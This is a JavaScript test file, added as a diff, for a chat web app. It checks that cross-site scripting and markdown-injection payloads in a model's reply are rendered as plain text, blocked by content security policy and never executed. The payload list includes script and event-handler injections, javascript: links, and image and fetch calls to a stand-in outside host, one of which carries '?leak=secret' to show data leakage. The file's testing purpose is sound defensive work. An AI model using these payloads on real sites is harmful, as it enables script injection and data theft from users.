@@ -1,0 +1,86 @@
+// SPDX-License-Identifier: Apache-2.0
+import { check, say } from "./bench.mjs";
+
+const payloads = (there) => [
+  `<script>window.ran=1;fetch("${there}/script")</script>`,
+  `<img src=x onerror="window.ran=1;fetch('${there}/onerror')">`,
+  `<img src="${there}/image.png">`,
+  `![pixel](${there}/pixel.png?leak=secret)`,
+  `![pixel][ref]\n\n[ref]: ${there}/reference.png`,
+  `<svg onload="window.ran=1"><animate onbegin="window.ran=1" attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<style>@import "${there}/style.css"; body{background:url(${there}/background)}</style>`,
+  `<link rel=stylesheet href="${there}/sheet.css"><base href="${there}/">`,
+  `[click](javascript:window.ran=1)`,
+  `[click](JaVaScRiPt&colon;window.ran=1)`,
+  `[click](data:text/html,<script>opener.ran=1</script>)`,
+  `[click](vbscript:ran) <javascript:window.ran=1> [x](\u0001javascript:window.ran=1)`,
+  `"><img src=x onerror=window.ran=1>`,
+  `\${window.ran=1} {{constructor.constructor('window.ran=1')()}}`,
+  "```html\n<script>window.ran=1</script>\n```",
+  `<form action="${there}/form"><input name=a><button>go</button></form>`,
+  `<meta http-equiv=refresh content="0;url=${there}/refresh">`,
+  `<creel-app></creel-app><details open ontoggle=window.ran=1>`,
+];
+
+export function hostileCases({ model, stranger, watch, shot }) {
+  return [
+    ["the checks would notice: the same payloads in a page that trusts them", async () => {
+      stranger.page = `<!doctype html><body><script>document.body.innerHTML = ${JSON.stringify(payloads(stranger.origin).join("\n")).replaceAll("<", "\\u003c")}</script></body>`;
+      const context = await watch.browser.newContext();
+      const page = await context.newPage();
+      await page.goto(`${stranger.origin}/trap`);
+      await page.waitForFunction(() => window.ran === 1);
+      check("script ran there", true);
+      check("and the stranger was visited", stranger.hits.some((h) => h.startsWith("/image.png")), stranger.hits);
+      stranger.hits.length = 0;
+      await context.close();
+    }],
+    ["the checks would notice: what the policy forbids is reported", async () => {
+      const page = await watch.signedIn();
+      const ran = await page.evaluate(async (there) => {
+        const inline = document.createElement("script");
+        try {
+          inline.text = "window.inline = 1";
+          document.body.append(inline);
+        } catch {
+          // trusted types refuse already
+        }
+        const blocked = await fetch(there).then(() => false, () => true);
+        new Image().src = `${there}/image`;
+        return [window.inline, blocked];
+      }, stranger.origin);
+      await page.waitForFunction(() => true);
+      check("inline code and foreign requests do not pass", ran[0] === undefined && ran[1] === true, ran);
+      for (const directive of ["require-trusted-types-for", "connect-src", "img-src"]) {
+        check(`${directive} is reported`, watch.violations.some((v) => v.startsWith(directive)), watch.violations);
+      }
+      check("and nobody was visited", stranger.hits.length === 0, stranger.hits);
+      watch.violations.length = 0;
+      watch.errors.length = 0;
+      watch.elsewhere.length = 0;
+      await page.context().close();
+    }],
+    ["what a model says is never run, loaded or followed", async () => {
+      const page = await watch.signedIn();
+      const all = payloads(stranger.origin);
+      model.scripts.set("be evil", (s) => s.text(all.join("\n\n")));
+      await say(page, `be evil ${all[0]}`);
+      await page.locator("article.assistant").last().getByText("creel-app").first().waitFor();
+      await page.getByText("Writing…").waitFor({ state: "detached" });
+      await page.reload();
+      const said = page.locator("article.assistant").last();
+      await said.getByText("creel-app").first().waitFor();
+      await shot(page, "hostile");
+      check("no script ran", (await page.evaluate(() => window.ran)) === undefined);
+      check("HTML is shown as characters", (await said.textContent()).includes("<script>window.ran=1;fetch("));
+      const made = await page.locator(".log").evaluate((log) => [...log.querySelectorAll("img, iframe, script, style, link, form, base, meta, svg")].map((e) => e.outerHTML));
+      check("nothing that loads or runs was made of it", made.length === 0, made);
+      const links = await said.locator("a").evaluateAll((as) => as.map((a) => [a.protocol, a.rel, a.target, a.referrerPolicy]));
+      check("links lead to the web only, without opener", links.length > 0 && links.every(([p, rel, target]) => /^(https?|mailto):$/.test(p) && rel.includes("noopener") && rel.includes("noreferrer") && target === "_blank"), links);
+      check("a picture is a link that shows where it leads", (await said.textContent()).includes(`${stranger.origin}/pixel.png?leak=secret`));
+      await page.context().close();
+    }],
+  ];
+}
+export { payloads };
